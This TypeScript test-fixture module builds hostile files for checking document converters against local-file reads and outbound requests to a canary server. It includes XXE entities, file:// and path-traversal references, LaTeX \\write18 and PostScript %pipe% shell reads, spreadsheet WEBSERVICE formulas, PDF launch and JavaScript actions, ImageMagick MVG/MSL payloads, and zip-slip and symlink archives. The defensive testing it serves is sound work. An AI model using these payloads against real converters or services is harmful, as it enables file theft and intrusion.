/**
 * Documents that ask their reader to open something else: the canary file beside the workspace, its picture, or the server
 * that listens. Each is a way in that some format has, and that some converter took at some time.
 */
import { office } from './references-office.ts';
import { packages } from './references-xps.ts';
import { zip } from './zip.ts';

export interface Bait {
  /** Absolute path of a text that must not be read. */
  readonly text: string;
  /** The same for a picture. */
  readonly picture: string;
  /** `http://127.0.0.1:1234` */
  readonly origin: string;
}

export interface Hostile {
  readonly name: string;
  readonly content: Buffer | string;
}

export function referring({ text, picture, origin }: Bait): readonly Hostile[] {
  const url = `${origin}/canary`;
  const image = `${url}.png`;
  const entity = (root: string): string =>
    `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY canary SYSTEM "file://${text}"><!ENTITY % net SYSTEM "${url}.dtd"> %net;]>`;
  return [
    ...drawings({ text, picture, url, image, entity }),
    ...pages({ text, picture, url, image }),
    ...markup({ text, picture, url, image }),
    ...office({ text, picture, url, image, entity }),
    ...media({ text, url }),
    ...print({ text, url }),
    ...archives({ text }),
    ...packages({ text, picture, url, image, entity }),
  ];
}

export interface Ways {
  readonly text: string;
  readonly picture: string;
  readonly url: string;
  readonly image: string;
  readonly entity: (root: string) => string;
}

const svgOf = (inner: string, before = ''): string =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="60">${inner}</svg>`;

function drawings({ text, picture, url, image, entity }: Ways): readonly Hostile[] {
  const size = 'width="80" height="60"';
  return [
    svgOf(`<image ${size} href="${image}"/>`),
    svgOf(`<image ${size} xlink:href="file://${picture}"/>`),
    svgOf(`<image ${size} href="${picture}"/>`),
    svgOf(`<image ${size} href="../../../../../../../../../..${picture}"/>`),
    svgOf(`<image ${size} xlink:href="text:${text}"/>`),
    svgOf(`<image ${size} xlink:href="msl:${text}"/>`),
    svgOf('<text y="20">&canary;</text>', entity('svg')),
    svgOf(
      `<style>@import url("${url}.css"); @font-face { font-family: a; src: url("${url}.woff") }</style><text y="20" font-family="a">x</text>`,
    ),
    svgOf(`<style>rect { fill: url("${url}.svg#a") }</style><rect ${size}/>`),
    svgOf(`<use href="${url}.svg#a"/><use xlink:href="file://${text}#a"/>`),
    svgOf(`<filter id="f"><feImage href="${image}"/></filter><rect ${size} filter="url(#f)"/>`),
    svgOf(
      `<foreignObject ${size}><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${text}"/></foreignObject>`,
    ),
    svgOf(`<script>fetch("${url}")</script><rect ${size}/>`),
    svgOf(`<rect ${size}/>`, `<?xml version="1.0"?><?xml-stylesheet href="${url}.css"?>`),
    svgOf(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${text}" parse="text"/>`),
  ].map((content, index) => ({ name: `drawing-${index}.svg`, content }));
}

function pages({ text, picture, url, image }: Omit<Ways, 'entity'>): readonly Hostile[] {
  return [
    `<img src="${image}"><img src="file://${picture}"><img src="${picture}">`,
    `<link rel="stylesheet" href="${url}.css"><style>@import "${url}.css"; body { background: url(${image}) }</style><p>x</p>`,
    `<script src="${url}.js"></script><script>fetch("${url}"); new Image().src = "${image}"</script><p>x</p>`,
    `<script>new WebSocket("${url.replace('http', 'ws')}"); navigator.sendBeacon("${url}"); open("${url}"); location = "${url}"</script>`,
    `<iframe src="file://${text}"></iframe><object data="file://${text}"></object><embed src="file://${text}">`,
    `<meta http-equiv="refresh" content="0; url=${url}"><p>x</p>`,
    `<base href="${url}/"><img src="a.png"><video src="${url}.mp4" autoplay></video><audio src="${url}.mp3"></audio>`,
    `<script>fetch("file://${text}").then(r => r.text()).then(t => document.body.innerText = t)</script>`,
    `<link rel="attachment" href="file://${text}"><a rel="attachment" href="file://${text}">x</a>`,
    `<svg><image href="file://${picture}" width="80" height="60"/></svg>`,
  ].map((content, index) => ({
    name: `page-${index}.html`,
    content: `<!doctype html><title>x</title><body>${content}`,
  }));
}

function markup({ text, picture, url, image }: Omit<Ways, 'entity'>): readonly Hostile[] {
  const named = (ext: string, contents: readonly string[]): readonly Hostile[] =>
    contents.map((content, index) => ({ name: `text-${index}.${ext}`, content }));
  return [
    ...named('md', [
      `![a](${image})\n\n![b](${picture})\n\n![c](file://${picture})\n\n![d](../../../../../../../../../..${picture})\n`,
      `---\nbibliography: ${text}\ncsl: ${url}.csl\ninclude-before: ${text}\nheader-includes: "\\\\input{${text}}"\ncss: ${url}.css\n---\n\nx\n`,
      `<img src="${image}"><iframe src="file://${text}"></iframe>\n\n\\input{${text}}\n\n\`\`\`{=typst}\n#read("${text}")\n\`\`\`\n`,
      `\`\`\`{=latex}\n\\input{${text}}\n\`\`\`\n\n\`\`\`{=html}\n<script src="${url}.js"></script>\n\`\`\`\n`,
    ]),
    ...named('tex', [
      `\\documentclass{article}\\begin{document}\\input{${text}}\\include{${text}}\\includegraphics{${picture}}\\end{document}`,
      `\\documentclass{article}\\usepackage{verbatim}\\begin{document}\\verbatiminput{${text}}\\lstinputlisting{${text}}\\immediate\\write18{cat ${text}}\\end{document}`,
      `\\newread\\f\\openin\\f=${text}\\read\\f to\\x\\begin{document}\\x\\end{document}`,
    ]),
    ...named('typst', [
      `#read("${text}")`,
      `#read("../../../../../../../../../..${text}")`,
      `#image("${picture}")`,
      `#include "${text}"`,
      '#import "@preview/cetz:0.3.1": *\nx',
      `#set text(font: "x")\n#csv("${text}")`,
    ]),
    ...named('rst', [
      `.. include:: ${text}\n\n.. literalinclude:: ${text}\n\n.. image:: ${image}\n\n.. image:: ${picture}\n`,
      `.. raw:: html\n   :url: ${url}\n\n.. raw:: html\n   :file: ${text}\n\n.. csv-table::\n   :file: ${text}\n`,
    ]),
    ...named('org', [
      `#+INCLUDE: "${text}"\n#+SETUPFILE: ${text}\n\n[[file:${picture}]] [[${image}]]\n`,
      `#+BEGIN_SRC sh :results output\ncat ${text}\n#+END_SRC\n#+CALL: f(${text})\n`,
    ]),
    ...named('csv', [`=WEBSERVICE("${url}"),=HYPERLINK("${url}"),"='file://${text}'#$a.A1"\n`]),
    ...named('textile', [`!${image}!\n\n!${picture}!\n`]),
    ...named('opml', [
      `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY c SYSTEM "file://${text}">]><opml version="2.0"><body><outline text="&c;"/></body></opml>`,
    ]),
    ...named('fb2', [
      `<?xml version="1.0"?><!DOCTYPE F [<!ENTITY c SYSTEM "file://${text}">]><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section><p>&c;</p></section></body></FictionBook>`,
    ]),
    ...named('xml', [
      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY c SYSTEM "file://${text}"><!ENTITY d SYSTEM "${url}">]><a>&c;&d;</a>`,
    ]),
  ];
}

function media({ text, url }: Pick<Ways, 'text' | 'url'>): readonly Hostile[] {
  const playlist = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-KEY:METHOD=AES-128,URI="${url}.key"\n#EXTINF:10,\n${url}.ts\n#EXTINF:10,\nfile://${text}\n#EXTINF:1,\nconcat:${text}|${url}\n#EXT-X-ENDLIST\n`;
  return [
    { name: 'list.m3u8', content: playlist },
    ...['mp4', 'avi', 'mp3', 'mkv', 'wav', 'gif', 'flac', 'ogg'].map((ext) => ({
      name: `list.${ext}`,
      content: playlist,
    })),
    { name: 'concat.mp4', content: `ffconcat version 1.0\nfile ${text}\nfile ${url}.mp4\n` },
    {
      name: 'session.mp4',
      content: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${new URL(url).port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    },
    {
      name: 'dash.mp4',
      content: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation id="1"><BaseURL>${url}.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    },
  ];
}

function print({ text, url }: Pick<Ways, 'text' | 'url'>): readonly Hostile[] {
  const reading = `(${text}) (r) file 4096 string readstring pop /Helvetica findfont 12 scalefont setfont 20 700 moveto show`;
  const programs = [
    `${reading} showpage`,
    `(${text}) run showpage`,
    `(%pipe%cat ${text}) (r) file 100 string readstring pop == showpage`,
    `(/tmp/canary-written) (w) file (x) writestring closefile showpage`,
    `{ 1 } loop`,
    `1000000000 array pop showpage`,
  ];
  const pdf = (objects: readonly string[]): string =>
    `%PDF-1.7\n${objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R >>\n%%EOF\n`;
  const page = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
  return [
    ...programs.flatMap((program, index) => [
      { name: `program-${index}.ps`, content: `%!PS-Adobe-3.0\n${program}\n%%EOF\n` },
      {
        name: `program-${index}.eps`,
        content: `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n${program}\n%%EOF\n`,
      },
    ]),
    {
      name: 'actions.pdf',
      content: pdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${url}) >> /AA << /O << /S /JavaScript /JS (app.launchURL\\("${url}"\\)) >> >> >>`,
        page,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
      ]),
    },
    {
      name: 'external.pdf',
      content: pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        page,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
        `<< /Length 0 /F (${text}) >>\nstream\n\nendstream`,
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (${url}) >> >>\nstream\n\nendstream`,
      ]),
    },
    {
      name: 'launch.pdf',
      content: pdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (${text}) >> >>`,
        page,
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /GoToR /F (${text}) /D [0 /Fit] >> >>] >>`,
      ]),
    },
    {
      name: 'form.pdf',
      content: pdf([
        `<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R /Fields [] >> >>`,
        page,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
        `<< /Length 90 >>\nstream\n<?xml version="1.0"?><!DOCTYPE a [<!ENTITY c SYSTEM "file://${text}">]><a>&c;</a>\nendstream`,
      ]),
    },
    {
      name: 'picture.mvg',
      content: `push graphic-context\nviewbox 0 0 80 60\nimage over 0,0 80,60 '${url}.png'\nimage over 0,0 80,60 'text:${text}'\npop graphic-context\n`,
    },
    {
      name: 'mvg.png',
      content: `push graphic-context\nviewbox 0 0 80 60\nimage over 0,0 80,60 '${url}.png'\npop graphic-context\n`,
    },
    {
      name: 'msl.jpg',
      content: `<?xml version="1.0"?><image><read filename="${url}.png"/><read filename="text:${text}"/><write filename="/tmp/canary-written.png"/></image>`,
    },
  ];
}

function archives({ text }: Pick<Ways, 'text'>): readonly Hostile[] {
  return [
    {
      name: 'links.zip',
      content: zip([
        { name: 'canary', content: text, isLink: true },
        { name: 'a.txt', content: 'x' },
      ]),
    },
    {
      name: 'climbing.zip',
      content: zip([{ name: '../../../../../../../../../tmp/canary-written', content: 'x' }]),
    },
    { name: 'absolute.zip', content: zip([{ name: '/tmp/canary-written', content: 'x' }]) },
    {
      name: 'through.zip',
      content: zip([
        { name: 'd', content: '/tmp', isLink: true },
        { name: 'd/canary-written', content: 'x' },
      ]),
    },
  ];
}
